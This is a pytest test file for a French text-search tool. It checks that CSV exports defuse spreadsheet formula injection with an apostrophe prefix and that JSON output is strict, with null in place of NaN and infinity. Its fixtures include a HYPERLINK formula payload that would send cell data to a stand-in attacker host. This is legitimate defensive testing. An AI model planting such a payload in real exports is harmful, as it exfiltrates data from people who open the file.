"""What leaves as CSV or JSON: no formula for a spreadsheet to run, no number that JSON has not."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import frsearch
from frsearch import Article
from frsearch.cli.main import main
from frsearch.codec.snapshot import Snapshot
from frsearch.output.tables import as_json, write_csv
from tests.conftest import ROOT, MakeIndex

FORMULA = tuple("=+-@＝＋－＠\t\r\n\0")
LINK = '=HYPERLINK("http://evil.example/?"&A1)'


def written(*rows: list[object], raw: bool = False) -> str:
    file = io.StringIO(newline="")
    write_csv(file, ["number", "text"], rows, raw=raw)
    return file.getvalue()


def cells(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))[1:]


@pytest.mark.parametrize("first", FORMULA, ids=repr)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(first: str) -> None:
    text = first + "1+1"
    assert cells(written([1, text])) == [["1", "'" + text]]
    assert cells(written([1, text], raw=True)) == [["1", text]]


def test_column_names_are_texts_too() -> None:
    file = io.StringIO()
    write_csv(file, ["month", "=élection"], [])
    assert file.getvalue() == "month,'=élection\n"


def test_numbers_and_other_texts_are_written_as_they_are() -> None:
    rows: list[list[object]] = [[-1, -2.5, None, "", "a = b", "1-2", "l'un", "'=1", "a@b.fr", "d\n\ne"]]
    assert cells(written(*rows)) == [
        ["-1", "-2.5", "", "", "a = b", "1-2", "l'un", "'=1", "a@b.fr", "d\n\ne"]
    ]


def test_what_would_begin_a_cell_for_other_separators_gets_one_too() -> None:
    assert cells(written(['Oui ;=1+1\n- Non.\n\n+1\t-2;"=3'])) == [
        ["Oui ;'=1+1\n'- Non.\n\n'+1\t'-2;'\"=3"]
    ]


odd = st.text(st.sampled_from("=+-@＝\t\r\n\0;,\"' a"), max_size=12)


@given(st.lists(st.tuples(st.integers(0, 9), odd, odd), max_size=4))
def test_no_spreadsheet_finds_a_formula_whatever_its_separator(rows: list[tuple[int, str, str]]) -> None:
    text = written(*map(list, rows))
    for separator in ",;\t":
        found = [cell for row in cells(text, separator) for cell in row]
        assert not [cell for cell in found if cell.strip("\t\r\n\0").startswith(FORMULA[:8])], text


@given(st.lists(st.lists(odd, min_size=2, max_size=2), max_size=4))
def test_raw_csv_is_read_back_as_it_was(rows: list[list[str]]) -> None:
    assert cells(written(*rows, raw=True)) == rows


@pytest.fixture
def index(make_index: MakeIndex) -> frsearch.Index:
    return make_index(
        Article("=id", f"{LINK} sommet", title="@titre", date="2018-06", url="-u"), ("Autre.", "2018-07")
    )


def in_a_file(folder: Path, write: Callable[..., None], **options: bool) -> list[list[str]]:
    write(folder / "made.csv", **options)
    return cells((folder / "made.csv").read_text(encoding="utf-8-sig"))


def test_every_csv_is_neutralised(index: frsearch.Index, tmp_path: Path) -> None:
    line = in_a_file(tmp_path, index.concordance("sommet", width=200).to_csv)[0]
    assert (line[0], line[3], line[5]) == (f"'{LINK} ", "'=id", "'@titre")
    line = in_a_file(tmp_path, index.concordance("sommet", width=200).to_csv, raw=True)[0]
    assert (line[0], line[3], line[5]) == (f"{LINK} ", "=id", "@titre")
    timeline = index.timeline(["=sommet"])
    timeline.to_csv(tmp_path / "made.csv")
    assert (tmp_path / "made.csv").read_text(encoding="utf-8-sig").startswith("month,words,'=sommet\n")
    timeline.to_csv(tmp_path / "made.csv", raw=True)
    assert (tmp_path / "made.csv").read_text(encoding="utf-8-sig").startswith("month,words,=sommet\n")


@pytest.mark.parametrize(
    "asked",
    [
        ("search", "sommet", "--text"), ("search", "sommet", "--all"), ("concordance", "sommet"),
        ("timeline", "--", "=sommet"), ("analyze", "--", "=sommet", "-1"), ("similar", "a2"),
    ],
)  # fmt: skip
def test_every_command_neutralises_its_csv(
    index: frsearch.Index, tmp_path: Path, asked: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    name, *rest = asked
    where = [] if name == "analyze" else ["-i", str(index.path)]

    def made(*options: str) -> list[str]:
        assert main([name, *where, *options, *rest]) in (0, 1)
        text = capsys.readouterr().out
        if "-o" in options:
            text = (tmp_path / "made.csv").read_text(encoding="utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    raw = made("--csv", "--raw")
    safe = [("'" + cell if cell.startswith(FORMULA) else cell) for cell in raw]
    assert made("--csv") == made("-o", str(tmp_path / "made.csv")) == safe
    assert safe != raw or name == "similar"


def test_raw_is_about_csv(index: frsearch.Index, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["search", "-i", str(index.path), "sommet", "--raw", "--json"]) == 2
    assert "give --raw with --csv only" in capsys.readouterr().err


def test_what_is_exported_raw_is_read_as_it_was(
    index: frsearch.Index, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = str(tmp_path / "made.csv")
    for options, mark in (((), "'"), (("--raw",), "")):
        main(["search", "-i", str(index.path), "sommet", "--text", "-o", file, *options])
        (read,) = frsearch.read_articles(file)
        assert (read.id, read.title, read.url) == (mark + "=id", mark + "@titre", mark + "-u")
        assert read.text == f"{mark}{LINK} sommet"


# --- JSON


def strictly(text: str) -> Any:
    """Read JSON as RFC 8259 has it, which Python's reader alone does not insist on."""

    def refuse(constant: str) -> None:
        raise ValueError(constant)

    return json.loads(text, parse_constant=refuse)


NUMBERS = {"nan": float("nan"), "deep": [{"inf": float("inf")}, (-float("inf"), 1.5)], "one": 1}
NONE = {"nan": None, "deep": [{"inf": None}, [None, 1.5]], "one": 1}


def test_json_has_null_for_what_is_no_number_there() -> None:
    assert strictly(as_json(NUMBERS)) == NONE
    assert strictly(as_json([NUMBERS], indent=1)) == [NONE]
    assert as_json({"é": "\ud800"}) == '{"é": "\\ud800"}'


@pytest.fixture
def numbers(index: frsearch.Index, monkeypatch: pytest.MonkeyPatch) -> frsearch.Index:
    """An index whose articles have such numbers, as one that was made before may have them."""
    monkeypatch.setattr(Snapshot, "article", lambda *_: Article("a2", "Un sommet.", extra=NUMBERS))
    return index


def test_results_and_articles_are_json(
    numbers: frsearch.Index, capsys: pytest.CaptureFixture[str]
) -> None:
    results = numbers.search("sommet")
    assert results[0].article.extra == NUMBERS
    assert strictly(results.to_json()) == results.to_dict()
    assert results.to_dict()["hits"][0]["extra"] == NONE
    for asked in (
        ["search", "sommet"],
        ["search", "sommet", "--all"],
        ["show", "a2"],
    ):
        assert main([*asked, "--json", "-i", str(numbers.path)]) == 0, asked
        told = strictly(capsys.readouterr().out)
        hit = told["hits"][0] if "hits" in told else told
        assert hit["extra"] == NONE, asked


def test_json_lines_hold_what_json_can_hold(tmp_path: Path) -> None:
    with open(tmp_path / "made.jsonl", "w", encoding="utf-8") as file:
        frsearch.output.tables.write_jsonl(file, [{"a": float("nan"), "b": "\ud800"}])
    assert (tmp_path / "made.jsonl").read_text("utf-8") == '{"a": null, "b": "\\ud800"}\n'


def test_every_route_of_the_api_is_json(numbers: frsearch.Index) -> None:
    pytest.importorskip("starlette")
    pytest.importorskip("httpx2")
    from starlette.testclient import TestClient

    from frsearch.web import app

    web = TestClient(app(numbers), base_url="http://127.0.0.1")
    for route in ("search?q=sommet", "article/a2?q=sommet", "similar/a2", "concordance?q=sommet",
                  "timeline?q=sommet&relative=1", "suggest?q=s", "info"):  # fmt: skip
        answer = web.get(f"/api/{route}")
        assert answer.status_code == 200
        strictly(answer.text)


def test_all_json_that_people_see_is_written_in_one_place() -> None:
    # The others write what is ours alone, of numbers that are finite; or one character.
    known = {"output/tables.py", "engine/cursor.py", "reading/forms/json_values.py", "cli/output.py"}
    known |= {"reading/exact.py", "output/articles/shown.py", "reading/provenance.py"}
    known |= {"engine/opensearch/client.py", "engine/opensearch/documents.py"}
    package = ROOT / "frsearch"
    writers = {
        file.relative_to(package).as_posix()
        for file in package.rglob("*.py")
        if re.search(r"json\.dumps?\(|JSONEncoder", file.read_text("utf-8"))
    }
    assert {name for name in writers if not name.startswith("codec/")} == known
